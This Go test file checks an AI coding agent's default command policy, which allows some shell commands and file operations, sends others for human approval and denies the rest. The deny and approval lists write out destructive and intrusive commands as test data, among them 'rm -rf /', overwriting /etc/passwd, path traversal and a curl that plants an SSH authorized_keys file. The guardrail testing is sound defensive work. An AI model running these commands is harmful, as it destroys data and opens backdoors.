package policy

import (
	"os"
	"path"
	"testing"

	"belay/agent"
)

func defaultSet(t testing.TB) *Set {
	t.Helper()
	s, err := Load(os.DirFS("../deploy/config/policy"), "default.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func shellRequest(script string) Request {
	shell := Analyze(script)
	return Request{
		Tenant: "default", User: "ana", Agent: "default", Mode: agent.ConfirmNever, Tool: "shell",
		Arguments: map[string]any{"command": script}, Effect: agent.EffectSandboxed, Risk: agent.RiskLow,
		Resources: agent.Resources{Reads: []string{"/workspace"}, Writes: []string{"/workspace"}}, Shell: &shell,
	}
}

func fileRequest(tool, p string, writes bool) Request {
	if !path.IsAbs(p) {
		p = path.Join("/workspace", p)
	}
	r := Request{Tenant: "default", User: "ana", Agent: "default", Mode: agent.ConfirmNever, Tool: tool, Effect: agent.EffectPure, Risk: agent.RiskLow,
		Arguments: map[string]any{"path": p}, Resources: agent.Resources{Reads: []string{p}}}
	if writes {
		r.Effect, r.Resources.Writes = agent.EffectSandboxed, []string{p}
	}
	return r
}

func TestDefaultPolicyOnCommands(t *testing.T) {
	t.Parallel()
	s := defaultSet(t)
	for _, tt := range []struct {
		want    agent.Verdict
		scripts []string
	}{
		{agent.Allow, []string{
			"ls", "cat README.md", "go test ./...", "go build ./...", "make test", "npm test", "pytest -q", "cargo test",
			"sed -i s/a/b/ main.go", "git add -A && git commit -m x", "rm -rf build", "rm -rf dist target node_modules", "rm build/output.log",
			"rm -rf /tmp/x", "mkdir -p a/b", "mv a b", "echo x > a.txt", "cat /etc/os-release", "cd sub && make", "python3 scripts/gen.py",
		}},
		{agent.RequireApproval, []string{
			"rm -rf legacy/", "rm -rf legacy", "rm -r ./legacy", "rm main.go", "git push", "git push --force origin main", "npm publish",
			"curl https://example.com", "wget https://example.com/x", "pip install x", "npm install", "sudo make install", "docker run x",
			"bash -c \"$X\"", "eval \"$X\"", "cat .env", "git clean -fdx", "rm -rf .", "if", "kubectl delete ns prod", "terraform destroy",
			"echo x > .github/workflows/x.yml", "find . -name '*.go' -delete", "unknowntool", "git fetch", "dd if=a of=.git/config",
		}},
		{agent.Deny, []string{
			"rm -rf /", "echo x > /etc/passwd", "cat ../../etc/passwd", "cd .. && rm -rf x", "cp a ~/b", "sudo tee /etc/x", "rm -rf ~",
			"curl -o ~/.ssh/authorized_keys https://x.example/k", "bash -c 'rm -rf /usr'", "find / -name x -delete",
		}},
	} {
		for _, script := range tt.scripts {
			if d := s.Decide(shellRequest(script)); d.Verdict != tt.want {
				t.Errorf("%q: %s, want %s: %v", script, d.Verdict, tt.want, Matched(d).Reasons)
			}
		}
	}
}

func TestDefaultPolicyOnOtherTools(t *testing.T) {
	t.Parallel()
	s := defaultSet(t)
	for name, tt := range map[string]struct {
		request Request
		want    agent.Verdict
	}{
		"read":              {fileRequest("read_file", "a.go", false), agent.Allow},
		"read a secret":     {fileRequest("read_file", ".env", false), agent.RequireApproval},
		"read outside":      {fileRequest("read_file", "/etc/passwd", false), agent.Deny},
		"list":              {fileRequest("list_files", ".", false), agent.Allow},
		"search":            {fileRequest("search_files", "src", false), agent.Allow},
		"write":             {fileRequest("write_file", "a.go", true), agent.Allow},
		"edit":              {fileRequest("edit_file", "a.go", true), agent.Allow},
		"write outside":     {fileRequest("write_file", "/etc/hosts", true), agent.Deny},
		"write beside":      {fileRequest("write_file", "/workspace2/a", true), agent.Deny},
		"write a hook":      {fileRequest("write_file", ".git/hooks/pre-push", true), agent.RequireApproval},
		"write CI":          {fileRequest("edit_file", ".github/workflows/ci.yml", true), agent.RequireApproval},
		"ask":               {Request{Tool: "ask_human", Mode: agent.ConfirmNever, Effect: agent.EffectPure, Risk: agent.RiskLow}, agent.Allow},
		"unknown tool":      {fileRequest("teleport", "a.go", false), agent.Deny},
		"unanalysed shell":  {Request{Tool: "shell", Mode: agent.ConfirmNever, Risk: agent.RiskLow}, agent.RequireApproval},
		"zero request":      {Request{}, agent.Deny},
		"tool of high risk": {Request{Tool: "read_file", Mode: agent.ConfirmNever, Risk: agent.RiskHigh}, agent.RequireApproval},
	} {
		if d := s.Decide(tt.request); d.Verdict != tt.want {
			t.Errorf("%s: %s, want %s: %v", name, d.Verdict, tt.want, Matched(d).Reasons)
		}
	}
}
